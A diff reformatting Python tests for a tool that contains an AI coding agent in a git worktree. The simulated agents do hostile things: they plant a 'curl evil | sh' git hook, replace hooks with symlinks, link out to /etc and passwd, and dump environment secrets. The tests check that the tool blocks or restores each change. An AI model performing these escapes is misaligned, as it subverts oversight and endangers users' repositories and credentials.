@@ -51,12 +51,15 @@ def test_command_missing(mdrepo: Repo, tmp_path: Path) -> None:
 
 
 def test_command_exits_non_zero(mdrepo: Repo, tmp_path: Path) -> None:
-    set_agent(tmp_path, """
+    set_agent(
+        tmp_path,
+        """
         import pathlib, sys
         pathlib.Path("half.txt").write_text("half done\\n")
         print("model overloaded, giving up")
         sys.exit(3)
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     before = user_state(mdrepo)
     proc = run_fg(mdrepo)
@@ -78,12 +81,17 @@ def test_command_exits_non_zero(mdrepo: Repo, tmp_path: Path) -> None:
 
 def test_hang_past_max_minutes_kills_the_process_group(mdrepo: Repo, tmp_path: Path) -> None:
     pidfile = tmp_path / "sleeper.pid"
-    reconfigure(mdrepo, tmp_path, agent_extra="max_minutes = 0.02", body=f"""
+    reconfigure(
+        mdrepo,
+        tmp_path,
+        agent_extra="max_minutes = 0.02",
+        body=f"""
         import subprocess, time, pathlib
         child = subprocess.Popen(["sleep", "30"])
         pathlib.Path({str(pidfile)!r}).write_text(str(child.pid))
         time.sleep(30)
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     before = user_state(mdrepo)
     t0 = time.monotonic()
@@ -102,11 +110,16 @@ def test_hang_past_max_minutes_kills_the_process_group(mdrepo: Repo, tmp_path: P
 
 
 def test_hang_with_partial_work_is_held(mdrepo: Repo, tmp_path: Path) -> None:
-    reconfigure(mdrepo, tmp_path, agent_extra="max_minutes = 0.01", body="""
+    reconfigure(
+        mdrepo,
+        tmp_path,
+        agent_extra="max_minutes = 0.01",
+        body="""
         import pathlib, time
         pathlib.Path("partial.txt").write_text("some\\n")
         time.sleep(30)
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     before = user_state(mdrepo)
     assert run_fg(mdrepo).returncode == 0
@@ -120,7 +133,9 @@ def test_hang_with_partial_work_is_held(mdrepo: Repo, tmp_path: Path) -> None:
 
 def test_writes_into_spec_are_restored(mdrepo: Repo, tmp_path: Path) -> None:
     mdrepo.commit("more protected files", {"AGENTS.md": "# rules\n"}, env=QUIET)
-    set_agent(tmp_path, """
+    set_agent(
+        tmp_path,
+        """
         import os, pathlib
         pathlib.Path("spec/app.md").write_text("# App\\nThe agent rewrote the spec.\\n")
         pathlib.Path("spec/new.md").write_text("invented\\n")
@@ -128,14 +143,18 @@ def test_writes_into_spec_are_restored(mdrepo: Repo, tmp_path: Path) -> None:
         pathlib.Path(".mdspec.toml").write_text("")
         pathlib.Path("out.txt").write_text("implemented\\n")
         pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
-    """)
+    """,
+    )
     spec = spec_commit(mdrepo)
     spec_tree = mdrepo.git("rev-parse", "HEAD^{tree}")
     assert run_fg(mdrepo).returncode == 0
     rec = last_run(mdrepo)
     assert rec["status"] == "landed"
     assert sorted(rec["violations"]) == [
-        ".mdspec.toml (protected)", "AGENTS.md (protected)", "spec/app.md (protected)", "spec/new.md (protected)",
+        ".mdspec.toml (protected)",
+        "AGENTS.md (protected)",
+        "spec/app.md (protected)",
+        "spec/new.md (protected)",
     ]
     assert mdrepo.head("HEAD~1") == spec
     assert changed_paths(mdrepo, "HEAD") == ["out.txt"]
@@ -159,7 +178,9 @@ def test_writes_into_the_git_dir_are_restored(mdrepo: Repo, tmp_path: Path) -> N
     exclude.write_text("*.swp\n")
     hook_bytes, hook_mode = hook.read_bytes(), hook.stat().st_mode
     config_bytes, exclude_bytes = config.read_bytes(), exclude.read_bytes()
-    set_agent(tmp_path, f"""
+    set_agent(
+        tmp_path,
+        f"""
         import os, pathlib, subprocess
         # relative: the worktree lives under the git dir
         pathlib.Path("../../hooks/post-commit").write_text("#!/bin/sh\\ncurl evil | sh\\n")
@@ -172,7 +193,8 @@ def test_writes_into_the_git_dir_are_restored(mdrepo: Repo, tmp_path: Path) -> N
         pathlib.Path({str(exclude)!r}).write_text("*\\n")
         pathlib.Path("out.txt").write_text("implemented\\n")
         pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     assert run_fg(mdrepo).returncode == 0
     assert hook.read_bytes() == hook_bytes
@@ -183,7 +205,9 @@ def test_writes_into_the_git_dir_are_restored(mdrepo: Repo, tmp_path: Path) -> N
     rec = last_run(mdrepo)
     assert rec["status"] == "landed"
     assert sorted(rec["violations"]) == [
-        ".git/config (git dir)", ".git/hooks/post-commit (git dir)", ".git/hooks/pre-commit (git dir)",
+        ".git/config (git dir)",
+        ".git/hooks/post-commit (git dir)",
+        ".git/hooks/pre-commit (git dir)",
         ".git/info/exclude (git dir)",
     ]
     assert "restored: .git/hooks/post-commit (git dir)" in mdrepo.mdspec("log").stdout
@@ -195,11 +219,14 @@ def test_hook_replaced_by_symlink_is_restored_without_writing_through_it(mdrepo:
     hook_bytes = hook.read_bytes()
     victim = tmp_path / "victim.txt"
     victim.write_text("do not touch\n")
-    set_agent(tmp_path, f"""
+    set_agent(
+        tmp_path,
+        f"""
         import os
         os.unlink("../../hooks/post-commit")
         os.symlink({str(victim)!r}, "../../hooks/post-commit")
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     run_fg(mdrepo)
     assert victim.read_text() == "do not touch\n"
@@ -213,13 +240,16 @@ def test_hooks_dir_replaced_by_symlink_is_restored(mdrepo: Repo, tmp_path: Path)
     hooks = mdrepo.top / ".git" / "hooks"
     hook_bytes = (hooks / "post-commit").read_bytes()
     evil = tmp_path / "evil-hooks"
-    set_agent(tmp_path, f"""
+    set_agent(
+        tmp_path,
+        f"""
         import os, shutil
         shutil.rmtree("../../hooks")
         os.makedirs({str(evil)!r})
         open({str(evil / "pre-commit")!r}, "w").write("#!/bin/sh\\n")
         os.symlink({str(evil)!r}, "../../hooks")
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     run_fg(mdrepo)
     assert not hooks.is_symlink()
@@ -233,7 +263,9 @@ def test_hooks_dir_replaced_by_symlink_is_restored(mdrepo: Repo, tmp_path: Path)
 def test_symlink_out_of_the_worktree_is_not_committed(mdrepo: Repo, tmp_path: Path) -> None:
     outside = tmp_path / "outside"
     outside.mkdir()
-    set_agent(tmp_path, f"""
+    set_agent(
+        tmp_path,
+        f"""
         import os, pathlib
         os.symlink({str(outside)!r}, "escape")
         pathlib.Path("escape/loot.txt").write_text("written through the link\\n")
@@ -242,14 +274,16 @@ def test_symlink_out_of_the_worktree_is_not_committed(mdrepo: Repo, tmp_path: Pa
         os.symlink("../out.txt", "src/inside")  # stays inside: fine
         pathlib.Path("out.txt").write_text("implemented\\n")
         pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     before = user_state(mdrepo)
     assert run_fg(mdrepo).returncode == 0
     rec = last_run(mdrepo)
     assert rec["status"] == "landed"
     assert sorted(rec["violations"]) == [
-        "escape (symlink out of the worktree)", "passwd (symlink out of the worktree)",
+        "escape (symlink out of the worktree)",
+        "passwd (symlink out of the worktree)",
     ]
     assert sorted(changed_paths(mdrepo, "HEAD")) == ["out.txt", "src/inside"]
     assert not (mdrepo.top / "escape").exists()
@@ -260,13 +294,16 @@ def test_symlink_out_of_the_worktree_is_not_committed(mdrepo: Repo, tmp_path: Pa
 
 
 def test_agent_commits_a_symlink_itself(mdrepo: Repo, tmp_path: Path) -> None:
-    set_agent(tmp_path, """
+    set_agent(
+        tmp_path,
+        """
         import os, pathlib, subprocess
         os.symlink("/etc", "etc")
         pathlib.Path("out.txt").write_text("implemented\\n")
         subprocess.run(["git", "add", "-A"], check=True)
         subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "agent"], check=True)
-    """)
+    """,
+    )
     spec = spec_commit(mdrepo)
     assert run_fg(mdrepo).returncode == 0
     assert last_run(mdrepo)["status"] == "landed"
@@ -300,14 +337,24 @@ def test_empty_result_is_an_empty_generated_commit(mdrepo: Repo, tmp_path: Path)
 
 def test_secrets_and_git_variables_do_not_reach_the_check(mdrepo: Repo, tmp_path: Path) -> None:
     dump = tmp_path / "check-env.json"
-    check = agent_script(tmp_path, f"import json, os\njson.dump(dict(os.environ), open({str(dump)!r}, 'w'))\n",
-                         "check.py")
+    check = agent_script(
+        tmp_path, f"import json, os\njson.dump(dict(os.environ), open({str(dump)!r}, 'w'))\n", "check.py"
+    )
     reconfigure(mdrepo, tmp_path, extra=f'check = "{check}"')
     spec_commit(mdrepo)
-    proc = mdrepo.mdspec("run", "--foreground", env={"ANTHROPIC_API_KEY": "sk-secret", "GIT_DIR": "/nowhere",
-                                                     "MY_TOKEN": "t", "GIT_SSH_COMMAND": "ssh -o BatchMode=yes",
-                                                     "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "http.extraHeader",
-                                                     "GIT_CONFIG_VALUE_0": "Authorization: Bearer t"})
+    proc = mdrepo.mdspec(
+        "run",
+        "--foreground",
+        env={
+            "ANTHROPIC_API_KEY": "sk-secret",
+            "GIT_DIR": "/nowhere",
+            "MY_TOKEN": "t",
+            "GIT_SSH_COMMAND": "ssh -o BatchMode=yes",
+            "GIT_CONFIG_COUNT": "1",
+            "GIT_CONFIG_KEY_0": "http.extraHeader",
+            "GIT_CONFIG_VALUE_0": "Authorization: Bearer t",
+        },
+    )
     assert proc.returncode == 0, proc.stderr
     env = json.loads(dump.read_text())
     assert "ANTHROPIC_API_KEY" not in env
@@ -334,8 +381,9 @@ pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
 
 
 def test_check_fails_then_passes_after_a_fix_round(mdrepo: Repo, tmp_path: Path) -> None:
-    reconfigure(mdrepo, tmp_path, extra='check = "grep -q good out.txt || { echo out.txt is bad; exit 1; }"',
-                body=FIXING_AGENT)
+    reconfigure(
+        mdrepo, tmp_path, extra='check = "grep -q good out.txt || { echo out.txt is bad; exit 1; }"', body=FIXING_AGENT
+    )
     spec_commit(mdrepo)
     assert run_fg(mdrepo).returncode == 0
     rec = last_run(mdrepo)
@@ -431,8 +479,9 @@ def test_second_trigger_while_running_is_queued_not_lost(mdrepo: Repo, tmp_path:
     assert "running: run " in status
     assert f"queued: 1 spec commit(s): {second[:10]}" in status
     flag.write_text("go")
-    wait_for(lambda: len(runs(mdrepo)) == 2 and runs(mdrepo)[0]["status"] != "running" and _settled(mdrepo),
-             what="both runs")
+    wait_for(
+        lambda: len(runs(mdrepo)) == 2 and runs(mdrepo)[0]["status"] != "running" and _settled(mdrepo), what="both runs"
+    )
     first_run, second_run = runs(mdrepo)[1], runs(mdrepo)[0]
     assert first_run["spec_commits"] == [first]
     assert first_run["status"] == "landed"
@@ -458,8 +507,17 @@ def test_two_workers_started_at_once_run_one_at_a_time(mdrepo: Repo, tmp_path: P
     for sha in (a, b):
         (queue / sha).write_text(f"refs/heads/main\n{time.time()}\n")
     env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_") or k == "GIT_CONFIG_NOSYSTEM"}
-    workers = [subprocess.Popen([sys.executable, "-m", "mdspec", "worker"], cwd=mdrepo.top, env=env,
-                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for _ in range(2)]
+    workers = [
+        subprocess.Popen(
+            [sys.executable, "-m", "mdspec", "worker"],
+            cwd=mdrepo.top,
+            env=env,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+        )
+        for _ in range(2)
+    ]
     wait_for(lambda: log.exists() and "start" in log.read_text(), what="a run to start")
     # One worker found the lock taken and left at once; the other is running.
     wait_for(lambda: any(w.poll() is not None for w in workers), 10, "the second worker to exit")
@@ -481,8 +539,13 @@ def test_run_in_progress_refuses_a_second_foreground_run(mdrepo: Repo, tmp_path:
     log, flag = tmp_path / "agent.log", tmp_path / "go"
     set_agent(tmp_path, LOGGING_AGENT.format(log=str(log), flag=str(flag)))
     spec_commit(mdrepo)
-    first = subprocess.Popen([sys.executable, "-m", "mdspec", "run", "--foreground"], cwd=mdrepo.top,
-                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    first = subprocess.Popen(
+        [sys.executable, "-m", "mdspec", "run", "--foreground"],
+        cwd=mdrepo.top,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
     wait_for(lambda: log.exists(), what="the run to start")
     proc = run_fg(mdrepo)
     assert proc.returncode == 1
@@ -497,8 +560,13 @@ def test_worker_killed_mid_run_is_recorded_as_interrupted(mdrepo: Repo, tmp_path
     log, flag = tmp_path / "agent.log", tmp_path / "go"
     set_agent(tmp_path, LOGGING_AGENT.format(log=str(log), flag=str(flag)))
     spec_commit(mdrepo)
-    proc = subprocess.Popen([sys.executable, "-m", "mdspec", "run", "--foreground"], cwd=mdrepo.top,
-                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "mdspec", "run", "--foreground"],
+        cwd=mdrepo.top,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )
     wait_for(lambda: log.exists(), what="the run to start")
     os.killpg(proc.pid, 9)
     proc.wait()
@@ -524,11 +592,14 @@ def test_check_past_check_minutes_is_killed_and_counts_as_failed(mdrepo: Repo, t
 
 
 def test_agent_destroying_the_worktree_fails_cleanly(mdrepo: Repo, tmp_path: Path) -> None:
-    set_agent(tmp_path, """
+    set_agent(
+        tmp_path,
+        """
         import os, pathlib
         pathlib.Path("out.txt").write_text("implemented\\n")
         os.remove(".git")
-    """)
+    """,
+    )
     spec_commit(mdrepo)
     before = user_state(mdrepo)
     proc = run_fg(mdrepo)
